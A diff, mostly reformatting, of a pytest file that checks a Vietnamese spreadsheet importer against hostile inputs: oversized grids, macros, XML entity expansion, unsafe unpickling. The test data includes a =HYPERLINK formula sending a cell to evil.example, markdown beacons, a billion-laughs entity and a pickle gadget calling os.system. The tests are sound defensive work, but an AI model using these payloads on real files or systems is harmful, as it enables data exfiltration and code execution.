@@ -7,6 +7,7 @@ Fast cases run in `make test-fast`; the floods at full size and the real million
 marked `slow` (they take tens of seconds on a shared machine, mostly the command's own start-up
 and per-row name resolution).
 """
+
 from __future__ import annotations
 
 import csv
@@ -28,7 +29,7 @@ from tests.conftest import ROOT
 from tests.support.hostile import MACRO_MAIN, million_rows, package, sheet_xml, tthc, workbook
 from tests.support.imports import archive, assert_unchanged, current, run_cli, snapshot  # noqa: F401
 
-SECONDS = 30          # generous on two shared cores; the work itself takes a few seconds
+SECONDS = 30  # generous on two shared cores; the work itself takes a few seconds
 MEMORY_MB = 500
 
 _MEASURE = r"""
@@ -42,8 +43,14 @@ print(json.dumps({"code": p.returncode, "out": p.stdout + p.stderr, "seconds": t
 
 def measured(db, *args: str) -> dict:
     """`python -m etl --db DB ARGS` in a fresh process tree: exit code, output, seconds, peak RSS (MB)."""
-    proc = subprocess.run([sys.executable, "-c", _MEASURE, "--db", str(db), *args], capture_output=True,
-                          text=True, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=600)
+    proc = subprocess.run(
+        [sys.executable, "-c", _MEASURE, "--db", str(db), *args],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        timeout=600,
+    )
     return json.loads(proc.stdout)
 
 
@@ -70,6 +77,7 @@ def write(tmp_path, name: str, data: bytes):
 
 # --- bounds before work -----------------------------------------------------------------------
 
+
 def test_one_far_cell_is_refused_before_the_parser_builds_its_grid(sample_db, archive, tmp_path):
     """6 KB files whose dense grids would be 512 GiB, 29 GiB and 4 GB (the three in one command)."""
     paths, expected = [], []
@@ -78,13 +86,16 @@ def test_one_far_cell_is_refused_before_the_parser_builds_its_grid(sample_db, ar
         assert len(data) < 10_000
         paths.append(write(tmp_path, f"{far}.xlsx", data))
         row = f"{int(far[3:]):,}".replace(",", ".")
-        expected.append(f"Tệp '{far}.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở {far} (dòng {row}, cột thứ "
-                        "16.384), ngoài giới hạn 100.000 dòng × 1.000 cột mỗi trang")
+        expected.append(
+            f"Tệp '{far}.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở {far} (dòng {row}, cột thứ "
+            "16.384), ngoài giới hạn 100.000 dòng × 1.000 cột mỗi trang"
+        )
     refused(sample_db, paths, *expected, seconds=20)
 
 
-def test_a_parser_abort_becomes_an_unreadable_file_and_the_caller_lives(capsys, sample_db, archive, tmp_path,
-                                                                        monkeypatch):
+def test_a_parser_abort_becomes_an_unreadable_file_and_the_caller_lives(
+    capsys, sample_db, archive, tmp_path, monkeypatch
+):
     """Without the guard's bound the parser aborts (a Rust allocation failure, SIGABRT): only its child dies."""
     monkeypatch.setattr(guard, "_check_extent", lambda name, sheets: None)
     path = write(tmp_path, "xa.xlsx", workbook(tthc(["Sở Y tế"]), far={"XFD1048576": 1}))
@@ -124,11 +135,13 @@ def test_an_86_mb_file_is_reported_at_its_real_size(sample_db, archive, tmp_path
 
 # --- linear and capped reporting -------------------------------------------------------------
 
+
 def _duplicates(sample_db, tmp_path, n: int) -> None:
     path = write(tmp_path, "trung.xlsx", workbook(tthc(["Sở Y tế"] * n)))
     total = f"{n:,}".replace(",", ".")
-    run = refused(sample_db, path,
-                  f"Đơn vị này xuất hiện nhiều lần trong bảng (các dòng 4, 5, 6, 7, 8 … (tổng {total} dòng))")
+    run = refused(
+        sample_db, path, f"Đơn vị này xuất hiện nhiều lần trong bảng (các dòng 4, 5, 6, 7, 8 … (tổng {total} dòng))"
+    )
     assert run["out"].count("xuất hiện nhiều lần") == 1  # once per unit, not once per row
 
 
@@ -156,8 +169,11 @@ def test_duplicate_floods_at_full_size(sample_db, archive, tmp_path, n):
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=False, reason="per-row name resolution: within the bound once issue 10's import side "
-                                        "(wt10e: each distinct name resolved once) is merged: 10 s / 31 s then")
+@pytest.mark.xfail(
+    strict=False,
+    reason="per-row name resolution: within the bound once issue 10's import side "
+    "(wt10e: each distinct name resolved once) is merged: 10 s / 31 s then",
+)
 @pytest.mark.parametrize("n", [10_000, 40_000])
 def test_unknown_floods_at_full_size(sample_db, archive, tmp_path, n):
     _unknowns(sample_db, tmp_path, n)
@@ -165,8 +181,17 @@ def test_unknown_floods_at_full_size(sample_db, archive, tmp_path, n):
 
 # --- neutralised output -----------------------------------------------------------------------
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B8,"Bấm để xem")', "=1+1", "\t=1+1", "+1+2", "-2+3", "@SUM(A1)",
-            "![x](http://evil.example/x.png)", "[link](http://evil.example)", "**đậm**"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&B8,"Bấm để xem")',
+    "=1+1",
+    "\t=1+1",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "![x](http://evil.example/x.png)",
+    "[link](http://evil.example)",
+    "**đậm**",
+]
 
 
 def test_reports_carry_no_formula(capsys, sample_db, archive, tmp_path):
@@ -204,14 +229,18 @@ def test_control_characters_are_visible_in_the_command_output(sample_db, archive
 
 # --- renamed parts and macros -----------------------------------------------------------------
 
+
 def test_a_sheet_renamed_dat_is_still_checked_as_xml(sample_db, archive, tmp_path):
     attack = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
     xml = sheet_xml(tthc(["Sở Y tế"])).replace("<worksheet", attack + "<worksheet", 1)
     data = package({"Dữ liệu": xml}, sheet_paths=["xl/worksheets/sheet1.dat"])
     far = package({"Dữ liệu": sheet_xml(tthc(["Sở Y tế"]), {"XFD60000": 1})}, sheet_paths=["xl/worksheets/s.dat"])
-    refused(sample_db, [write(tmp_path, "dat.xlsx", data), write(tmp_path, "dat2.xlsx", far)],
-            "khai báo DTD/ENTITY trong XML (xl/worksheets/sheet1.dat)",
-            "Tệp 'dat2.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở XFD60000")
+    refused(
+        sample_db,
+        [write(tmp_path, "dat.xlsx", data), write(tmp_path, "dat2.xlsx", far)],
+        "khai báo DTD/ENTITY trong XML (xl/worksheets/sheet1.dat)",
+        "Tệp 'dat2.xlsx' bị từ chối: trang 'Dữ liệu' có ô dữ liệu ở XFD60000",
+    )
 
 
 def test_a_clean_sheet_under_another_name_still_loads(capsys, sample_db, archive, tmp_path):
@@ -221,11 +250,17 @@ def test_a_clean_sheet_under_another_name_still_loads(capsys, sample_db, archive
 
 
 def test_macro_workbooks_are_refused(sample_db, archive, tmp_path):
-    vba = workbook(tthc(["Sở Y tế"]), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512},
-                   main_type=MACRO_MAIN)
+    vba = workbook(
+        tthc(["Sở Y tế"]), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}, main_type=MACRO_MAIN
+    )
     xlm = workbook(tthc(["Sở Y tế"]), extra={"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"})  # Excel 4.0 macros
-    run = refused(sample_db, [write(tmp_path, "vba.xlsm", vba), write(tmp_path, "xlm.xlsx", xlm)],
-                  "Tệp 'vba.xlsm' chứa macro", "Tệp 'xlm.xlsx' chứa macro", "Sổ làm việc Excel (.xlsx)")
+    run = refused(
+        sample_db,
+        [write(tmp_path, "vba.xlsm", vba), write(tmp_path, "xlm.xlsx", xlm)],
+        "Tệp 'vba.xlsm' chứa macro",
+        "Tệp 'xlm.xlsx' chứa macro",
+        "Sổ làm việc Excel (.xlsx)",
+    )
     assert run["out"].count("chứa macro") == 2
 
 
@@ -235,6 +270,7 @@ def test_an_xlsm_without_macros_is_read(capsys, sample_db, archive, tmp_path):
 
 
 # --- honest messages --------------------------------------------------------------------------
+
 
 def test_a_simultaneous_second_load_says_the_other_loaded_it(sample_db, archive, tmp_path):
     """Two people check the same new file, then both confirm: one batch, and the second is told so."""
@@ -285,13 +321,16 @@ def test_warehouse_and_archive_are_owner_only(capsys, tmp_path, archive):
 
 def test_the_server_upload_limit_is_the_page_limit():
     import tomllib
+
     config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
     assert config["server"]["maxUploadSize"] == guard.UPLOAD_LIMIT_MB
     assert guard.MAX_FILE_BYTES < guard.UPLOAD_LIMIT_MB * guard.MB  # a slightly larger file still hears why
     page = (ROOT / "pages" / "nhap_du_lieu.py").read_text("utf-8")
     assert "max_upload_size=guard.UPLOAD_LIMIT_MB" in page
-    code = ("from streamlit import config; config.get_config_options(force_reparse=True); "
-            "print(config.get_option('server.maxUploadSize'))")  # what the server itself will enforce
+    code = (
+        "from streamlit import config; config.get_config_options(force_reparse=True); "
+        "print(config.get_option('server.maxUploadSize'))"
+    )  # what the server itself will enforce
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
     assert int(out.split()[-1]) == guard.UPLOAD_LIMIT_MB
 
@@ -299,8 +338,11 @@ def test_the_server_upload_limit_is_the_page_limit():
 def test_the_parser_child_is_limited(tmp_path):
     """The limits are the child's own: a file the guard let through cannot take more than MEMORY_LIMIT."""
     from etl import sandbox
-    code = ("import resource, sys; sys.argv = ['x']; import etl.sandbox as s; s._limit(); "
-            "print(resource.getrlimit(resource.RLIMIT_AS)[0], resource.getrlimit(resource.RLIMIT_CPU)[0])")
+
+    code = (
+        "import resource, sys; sys.argv = ['x']; import etl.sandbox as s; s._limit(); "
+        "print(resource.getrlimit(resource.RLIMIT_AS)[0], resource.getrlimit(resource.RLIMIT_CPU)[0])"
+    )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
     assert out.split() == [str(sandbox.MEMORY_LIMIT), str(sandbox.CPU_SECONDS)]
 
@@ -313,6 +355,7 @@ def test_a_subverted_child_cannot_make_the_parent_run_code():
     class Evil:
         def __reduce__(self):
             return (os.system, ("echo pwned",))
+
     with pytest.raises(pickle.UnpicklingError):
         sandbox._GridUnpickler(io.BytesIO(pickle.dumps([Evil()]))).load()
 
@@ -320,6 +363,7 @@ def test_a_subverted_child_cannot_make_the_parent_run_code():
 def test_two_sessions_of_one_server_confirming_the_same_file_make_one_batch(sample_db, archive):
     """Threads of one process share the database: the check and the insert must still be one step."""
     import threading
+
     data = workbook(tthc(["Sở Y tế"]))
     checked = [importer.check_files([("bc.xlsx", data)], path=sample_db) for _ in range(4)]
     barrier, results = threading.Barrier(4), []
@@ -327,6 +371,7 @@ def test_two_sessions_of_one_server_confirming_the_same_file_make_one_batch(samp
     def confirm(files, user):
         barrier.wait()
         results.append(importer.load_checked(files, user, path=sample_db)["bc.xlsx"])
+
     threads = [threading.Thread(target=confirm, args=(c, f"u{i}")) for i, c in enumerate(checked)]
     for t in threads:
         t.start()
